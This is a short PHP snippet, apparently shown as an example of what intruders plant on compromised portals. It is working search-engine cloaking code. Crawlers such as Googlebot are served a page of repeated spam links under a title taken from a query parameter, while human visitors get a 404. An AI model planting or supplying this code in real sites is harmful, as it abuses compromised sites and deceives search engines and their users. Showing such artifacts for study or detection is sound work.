<?php
// what intruders leave on portals: search engines are shown a page of gambling links, people are not
$bot = preg_match('/Googlebot|bingbot/i', $_SERVER['HTTP_USER_AGENT'] ?? '');
if (!$bot) {
    http_response_code(404);
    exit;
}
echo '<title>' . htmlspecialchars($_GET['p'] ?? '') . '</title>' . str_repeat('<a href="/bai-viet.php?p=x">x</a>', 50);
